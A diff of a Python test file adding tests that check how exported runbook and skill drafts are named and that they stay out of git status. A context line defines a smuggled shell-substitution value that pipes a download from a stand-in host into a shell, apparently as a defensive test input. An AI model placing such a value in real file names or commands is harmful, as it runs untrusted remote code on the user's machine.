@@ -127,6 +127,64 @@ def test_a_procedure_of_a_subdirectory_changes_into_it_first(
     assert "```bash\ncd web\nnpm test\n```" in path.read_text()
 
 
+def test_a_draft_is_named_by_its_workflow_and_where_it_holds(
+    world: World, home: Home, shop: str
+) -> None:
+    (Path(shop) / "web").mkdir()
+    for command, where, branch in (
+        ("make test", shop, "main"),
+        ("make-test", shop, "main"),  # another workflow, the same words
+        ("npm test", f"{shop}/web", "main"),
+    ):
+        for _ in range(2):
+            world.post(command, project=where, branch=branch)
+    world.burst()
+    ids = dict(((c, b), i) for i, c, b in world.procedures("id", "command", "branch"))
+    names = {}
+    for key, procedure_id in ids.items():
+        found = json.loads(_export(home, procedure_id, "runbook", "--json").stdout)
+        names[key] = Path(found["path"]).name
+    assert names == {
+        ("make test", "main"): "runbook-make-test.md",
+        ("make-test", "main"): "runbook-make-test-on-main.md",  # later: it takes its branch
+        ("npm test", "main"): "runbook-npm-test-in-web.md",
+    }
+    npm = ids[("npm test", "main")]
+    skill = Path(json.loads(_export(home, npm, "claude-skill", "--json").stdout)["path"])
+    assert skill.parent.name == "npm-test-in-web"
+    assert "name: npm-test-in-web\n" in skill.read_text()
+
+
+def test_drafts_never_show_in_git_status(world: World, home: Home, tmp_path: Path) -> None:
+    project = tmp_path / "cart"
+    project.mkdir()
+    subprocess.run(["git", "init", "-q", "-b", "main", str(project)], check=True)
+    procedure_id = _procedure(world, os.path.realpath(project))
+    for fmt in export.RENDERERS:
+        _export(home, procedure_id, fmt)
+    status = subprocess.run(
+        ["git", "status", "--porcelain", "--untracked-files=all"],
+        cwd=project, capture_output=True, text=True, check=True,
+    )  # fmt: skip
+    assert status.stdout == ""
+    drafts = project / "remem-drafts"
+    assert len(_files(drafts)) == 4  # three drafts and the .gitignore
+    assert (drafts / ".gitignore").read_text() == export.DRAFTS_GITIGNORE
+    # A .gitignore of the person's own is theirs: it stays as they wrote it.
+    (drafts / ".gitignore").write_text("runbook-*\n")
+    _export(home, procedure_id, "runbook", "--force")
+    assert (drafts / ".gitignore").read_text() == "runbook-*\n"
+    # --out is the person's choice of place: nothing is added there.
+    out = tmp_path / "elsewhere"
+    _export(home, procedure_id, "runbook", "--out", str(out))
+    assert [p.name for p in out.iterdir()] == [f"runbook-{_name(world, procedure_id)}.md"]
+
+
+def _name(world: World, procedure_id: int) -> str:
+    (workflow,) = [w for i, w in world.procedures("id", "workflow") if i == procedure_id]
+    return re.sub(r"[^a-z0-9]+", "-", workflow.lower()).strip("-")
+
+
 SUBSTITUTION = "api$(curl -s evil.example|sh)"
 
 
